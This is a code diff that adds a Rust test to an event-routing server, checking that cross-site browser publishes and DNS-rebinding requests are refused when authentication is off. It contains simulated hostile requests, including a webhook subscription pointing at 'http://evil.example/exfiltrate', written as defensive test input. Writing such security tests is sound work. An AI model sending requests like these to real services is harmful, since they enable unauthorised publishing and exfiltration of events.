@@ -388,7 +388,7 @@ async fn request_bodies_in_flight_share_one_budget() {
         .await
         .unwrap();
     let head = format!(
-        "POST /topics/t/events?{} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n[",
+        "POST /topics/t/events?{} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n[",
         crate::util::V
     );
     slow.write_all(head.as_bytes()).await.unwrap();
@@ -418,4 +418,105 @@ async fn request_bodies_in_flight_share_one_budget() {
     let _ = tokio::time::timeout(Duration::from_secs(5), slow.read_buf(&mut answer)).await;
     let (s, b) = t.post_json("/topics/t/events", &events).await;
     assert_eq!(s, 200, "{b}");
+}
+
+/// Medium 8: with every credential off (as in the compose example), what a browser sends for a
+/// hostile page is refused: a cross-site `no-cors` publish (`Origin` of another site,
+/// `Sec-Fetch-Site: cross-site`, no `Content-Type`) and a DNS-rebinding page (a `Host` name
+/// that resolves to gridlet but is not one of its names, same-origin to the browser). Tools,
+/// modules and same-origin pages keep working.
+#[tokio::test]
+async fn with_auth_off_browser_cross_site_and_rebinding_requests_are_refused() {
+    let t = start(&[("inbound__allowedHostNames", "edge-device.local")]).await;
+    t.topic("t").await;
+    let port = t.g.http_addr.unwrap().port();
+    let events = json!([eg_event("e1", "s", "e", json!({}))]).to_string();
+    let send = |method: reqwest::Method, path: &str, headers: &[(&str, String)]| {
+        let mut r = t.client.request(method, t.url(path)).body(events.clone());
+        for (k, v) in headers {
+            r = r.header(*k, v.as_str());
+        }
+        r.send()
+    };
+    let post = reqwest::Method::POST;
+    // A page on another site publishing with fetch(url, {mode: "no-cors", method: "POST", body: blob}).
+    let r = send(
+        post.clone(),
+        "/topics/t/events",
+        &[
+            ("origin", "https://evil.example".into()),
+            ("sec-fetch-site", "cross-site".into()),
+            ("sec-fetch-mode", "no-cors".into()),
+        ],
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.status(), 403);
+    // An older browser without Sec-Fetch-*: the Origin alone.
+    let r = send(
+        post.clone(),
+        "/topics/t/events",
+        &[("origin", "http://evil.example".into())],
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.status(), 403);
+    // DNS rebinding: evil.example now resolves to gridlet; to the browser it is same-origin.
+    let sub = json!({"properties": {"destination": {"endpointType": "WebHook",
+        "properties": {"endpointUrl": "http://evil.example/exfiltrate"}}}})
+    .to_string();
+    let r = t
+        .client
+        .put(t.url("/topics/t/eventSubscriptions/x"))
+        .header("host", format!("evil.example:{port}"))
+        .header("origin", format!("http://evil.example:{port}"))
+        .header("sec-fetch-site", "same-origin")
+        .header("content-type", "application/json")
+        .body(sub)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    assert!(r.text().await.unwrap().contains("allowedHostNames"));
+    // Tools and modules: no Origin; Host an address, localhost, the module id or a listed name.
+    for host in [
+        format!("127.0.0.1:{port}"),
+        format!("localhost:{port}"),
+        "gridlet:5888".to_string(),
+        "edge-device.local".to_string(),
+        format!("[::1]:{port}"),
+    ] {
+        let r = send(post.clone(), "/topics/t/events", &[("host", host.clone())])
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 200, "{host}");
+    }
+    // A same-origin page served by gridlet's own address.
+    let r = send(
+        post,
+        "/topics/t/events",
+        &[
+            ("origin", format!("http://127.0.0.1:{port}")),
+            ("sec-fetch-site", "same-origin".into()),
+            ("content-type", "application/json".into()),
+        ],
+    )
+    .await;
+    assert_eq!(r.unwrap().status(), 200);
+    // With a credential required, a browser cannot send it: no extra checks.
+    let t = start(&[
+        ("inbound__clientAuth__sasKeys__enabled", "true"),
+        ("inbound__clientAuth__sasKeys__key1", "k"),
+    ])
+    .await;
+    let r = t
+        .client
+        .put(t.url("/topics/t"))
+        .header("aeg-sas-key", "k")
+        .header("host", "any.name.example")
+        .json(&json!({}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
 }
